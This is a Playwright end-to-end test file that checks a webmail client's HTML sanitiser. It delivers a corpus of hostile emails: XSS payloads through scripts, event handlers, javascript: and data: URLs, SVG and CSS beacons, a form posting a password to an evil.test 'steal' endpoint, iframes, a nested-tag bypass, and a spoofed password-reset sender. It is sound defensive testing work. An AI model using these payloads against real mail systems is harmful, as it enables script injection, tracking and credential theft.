import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import { e2eSuite, expectAccessible, loginAs, newContext, screenshot } from './harness.ts';
import { openMail, row } from './webmail.ts';

const e2e = e2eSuite();
const eve = { address: 'eve@example.test', password: 'Eve-pass-2026!', displayName: 'Eve' };
const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

const html = (subject: string, body: string) =>
  `From: Mallory <mallory@evil.test>\r\nTo: ${eve.address}\r\nSubject: ${subject}\r\nMessage-ID: <${subject}@evil.test>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}\r\n`;

/** Every trick a mail may try: each would set a flag, open a dialog, log, navigate or fetch from a remote host if it worked. */
const corpus: [string, string][] = [
  ['hostile-script', html('hostile-script', `<p>script</p><script>top.pwned='script';alert('script');console.log('pwned')</script><SCRIPT SRC="https://evil.test/x.js"></SCRIPT>`)],
  ['hostile-handlers', html('hostile-handlers', `<body onload="top.pwned='onload'"><img src=x onerror="alert('onerror')"><div onmouseover="alert('over')" id="hover">hover me</div><svg onload="alert('svg')"></svg><details open ontoggle="alert('toggle')">x</details></body>`)],
  ['hostile-urls', html('hostile-urls', `<a id="js" href="javascript:alert('js')">js link</a> <a id="data" href="data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;">data link</a> <a href="vbscript:msgbox(1)">vb</a> <a href="  jav&#x09;ascript:alert(1)">obfuscated</a> <img src="javascript:alert('imgjs')">`)],
  ['hostile-svg', html('hostile-svg', `<svg xmlns="http://www.w3.org/2000/svg"><script>alert('svg-script')</script><image href="https://evil.test/svg.png"/><use href="https://evil.test/sprite.svg#a"/><a href="javascript:alert(1)"><text y="20">svg link</text></a><foreignObject><iframe src="https://evil.test/fo"></iframe></foreignObject></svg><img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">`)],
  ['hostile-css', html('hostile-css', `<style>@import url(https://evil.test/import.css); body { background: url('https://evil.test/bg.gif'); } p { width: expression(alert('expr')); } @font-face { font-family: x; src: url(https://evil.test/font.woff); } .x { behavior: url(https://evil.test/x.htc); }</style><p class="x" style="background-image: url(https://evil.test/inline.gif)">css beacons</p><table background="https://evil.test/table.gif"><tr><td>cell</td></tr></table><link rel="stylesheet" href="https://evil.test/link.css">`)],
  ['hostile-meta', html('hostile-meta', `<meta http-equiv="refresh" content="0;url=https://evil.test/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *"><p>meta refresh</p>`)],
  ['hostile-form', html('hostile-form', `<form action="https://evil.test/steal" method="post"><input name="password" value="secret"><button id="submit">登录</button></form><button formaction="https://evil.test/f">b</button>`)],
  ['hostile-base', html('hostile-base', `<base href="https://evil.test/"><a id="rel" href="/phish">relative link</a><img src="tracker.gif"><img src="//evil.test/protocol-relative.gif">`)],
  ['hostile-frames', html('hostile-frames', `<iframe src="https://evil.test/frame"></iframe><iframe srcdoc="<script>top.pwned='srcdoc'</script>"></iframe><object data="https://evil.test/obj"></object><embed src="https://evil.test/embed"><frameset><frame src="https://evil.test/f"></frameset><video poster="https://evil.test/poster.jpg" src="https://evil.test/v.mp4"></video><audio src="https://evil.test/a.mp3" autoplay></audio><img srcset="https://evil.test/srcset.png 2x"><p>frames</p>`)],
  ['hostile-remote-image', html('hostile-remote-image', `<p>remote image below</p><img id="remote" src="https://images.evil.test/pixel.png" alt="remote">`)],
  [
    'hostile-malformed',
    `From: =?utf-8?B?broken?= <mallory@evil.test>\r\nTo: ${eve.address}\r\nSubject: hostile-malformed\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="outer"\r\n\r\n--outer\r\nContent-Type: multipart/alternative; boundary="inner"\r\n\r\n--inner\r\nContent-Type: text/html; charset=x-unknown\r\nContent-Transfer-Encoding: x-bogus\r\n\r\n<p>malformed</p><scr<script>ipt>alert('nested')</script><img src=https://evil.test/malformed.gif>\r\n--inner\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n--outer\r\nContent-Type: application/octet-stream; name="x.bin"\r\nContent-Disposition: attachment; filename*=utf-8''%E6%81%B6%E6%84%8F.bin\r\n\r\n\0\0\0`,
  ],
  [
    'hostile-attachment',
    `From: Mallory <mallory@evil.test>\r\nTo: ${eve.address}\r\nSubject: hostile-attachment\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the attached page.\r\n--b\r\nContent-Type: text/html; name="invoice.html"\r\nContent-Disposition: attachment; filename="invoice.html"\r\n\r\n<html><body onload="alert('attachment')"><script>top.pwned='attachment'</script><p>invoice page</p><img src="https://evil.test/attachment.gif"><a href="javascript:alert(1)">pay</a></body></html>\r\n--b--\r\n`,
  ],
  [
    'forged-sender',
    `Authentication-Results: mx.example.test; spf=fail smtp.mailfrom=evil.test; dkim=fail header.d=example.test; dmarc=fail header.from=example.test\r\nFrom: IT 部门 <it@example.test>\r\nTo: ${eve.address}\r\nSubject: forged-sender\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n请点击链接重置密码。\r\n`,
  ],
  [
    'inline-cid-image',
    `From: Friend <friend@example.org>\r\nTo: ${eve.address}\r\nSubject: inline-cid-image\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="r"\r\n\r\n--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>inline picture:</p><img id="inline" src="cid:pic1@example.org" width="20" height="20">\r\n--r\r\nContent-Type: image/png\r\nContent-ID: <pic1@example.org>\r\nContent-Disposition: inline; filename="pic.png"\r\nContent-Transfer-Encoding: base64\r\n\r\n${pixel}\r\n--r--\r\n`,
  ],
];

/** Watches for anything that ran: dialogs, console output, flags on the page, navigations of the mail frame. */
function watch(page: Page) {
  const ran: string[] = [];
  const remote: string[] = [];
  const origin = new URL(e2e.server.url).origin;
  page.on('dialog', (d) => {
    ran.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  page.on('console', (m) => {
    if (/pwned/i.test(m.text())) ran.push(`console: ${m.text()}`);
  });
  page.on('framenavigated', (f) => {
    if (f !== page.mainFrame() && f.url() !== 'about:srcdoc' && f.url() !== 'about:blank') ran.push(`frame navigated to ${f.url()}`);
  });
  page.on('popup', (p) => ran.push(`popup ${p.url()}`));
  return {
    ran,
    remote,
    async intercept() {
      // Every request of the page and its frames: ours go through, any other host is logged and refused.
      await page.context().route('**/*', (route) => {
        const url = route.request().url();
        if (url.startsWith(origin) || url.startsWith('data:') || url.startsWith('blob:')) return route.continue();
        remote.push(url);
        return route.abort();
      });
    },
    async flags() {
      for (const f of page.frames()) {
        const flag = await f.evaluate(() => (window as unknown as { pwned?: string }).pwned).catch(() => undefined);
        if (flag) ran.push(`flag ${flag} in ${f.url()}`);
      }
    },
  };
}

test('M3 hostile mails run nothing in Chromium and fetch nothing remote before 显示图片', async () => {
  const ctx = e2e.server.postern.ctx;
  const account = await ctx.accounts.create(eve);
  for (const [, raw] of corpus) await ctx.mail.deliver(account.id, Buffer.from(raw));

  const context = await newContext(e2e.browser);
  const page = await context.newPage();
  const w = watch(page);
  await w.intercept();
  await loginAs(page, e2e.server.url, eve);
  await openMail(page);

  for (const [subject] of corpus) {
    await row(page, subject).click();
    await page.getByTestId('reader-subject').getByText(subject).waitFor();
    const frame = page.frameLocator('[data-testid="mail-frame"]');
    await frame.locator('body').waitFor();
    // What the sanitiser left: no script, no handler, no javascript:/data: link, no form, frame, base or meta.
    assert.equal(await frame.locator('script, iframe, frame, object, embed, form, input, button, base, meta[http-equiv="refresh"], link').count(), 0, subject);
    assert.equal(await frame.locator('[onload], [onerror], [onmouseover], [ontoggle], [href^="javascript:" i], [href^="data:" i], [href*="script:" i]').count(), 0, subject);
    for (const link of await frame.locator('a[href]').all()) {
      assert.equal(await link.getAttribute('target'), '_blank', subject);
      assert.equal(await link.getAttribute('rel'), 'noopener noreferrer', subject);
    }
    if (subject === 'hostile-handlers') await frame.locator('#hover').hover();
    if (subject === 'hostile-urls') {
      await frame.locator('#js').click();
      await frame.locator('#data').click();
    }
    if (subject === 'hostile-attachment') {
      await page.getByTestId('attachment-preview').click();
      const preview = page.getByRole('dialog').frameLocator('[data-testid="mail-frame"]');
      await preview.getByText('invoice page').waitFor();
      assert.equal(await preview.locator('script, [onload]').count(), 0);
      await screenshot(page, 'hostile-attachment-preview', false);
      await page.keyboard.press('Escape');
    }
    if (subject === 'inline-cid-image') {
      await frame.locator('#inline').waitFor();
      assert.match((await frame.locator('#inline').getAttribute('src'))!, /^data:image\/png;base64,/);
      assert.equal(await page.getByTestId('remote-blocked').count(), 0);
    }
    if (subject === 'forged-sender') {
      await page.getByTestId('auth-warning').getByText('这封邮件未通过 DMARC 验证').waitFor();
      await screenshot(page, 'hostile-forged-sender-zh-CN', false);
    } else assert.equal(await page.getByTestId('auth-warning').count(), 0, subject);
    if (subject === 'hostile-remote-image' || subject === 'hostile-css') await page.getByTestId('remote-blocked').waitFor();
    await page.waitForTimeout(200);
    await w.flags();
    assert.deepEqual(w.ran, [], subject);
    assert.deepEqual(w.remote, [], `${subject}: remote requests before 显示图片`);
  }
  await screenshot(page, 'hostile-last-zh-CN', false);

  // 显示图片 on the remote image: only now does the browser ask the remote host (refused here), and still nothing runs.
  await row(page, 'hostile-remote-image').click();
  await page.getByTestId('reader-subject').getByText('hostile-remote-image').waitFor();
  await screenshot(page, 'hostile-remote-blocked-zh-CN', false);
  await page.getByTestId('show-images').click();
  await page.getByTestId('remote-blocked').waitFor({ state: 'detached' });
  for (let i = 0; i < 50 && w.remote.length === 0; i++) await page.waitForTimeout(100);
  assert.deepEqual(w.remote, ['https://images.evil.test/pixel.png']);
  await w.flags();
  assert.deepEqual(w.ran, []);
  await expectAccessible(page, 'hostile-shown');
  await context.close();
});
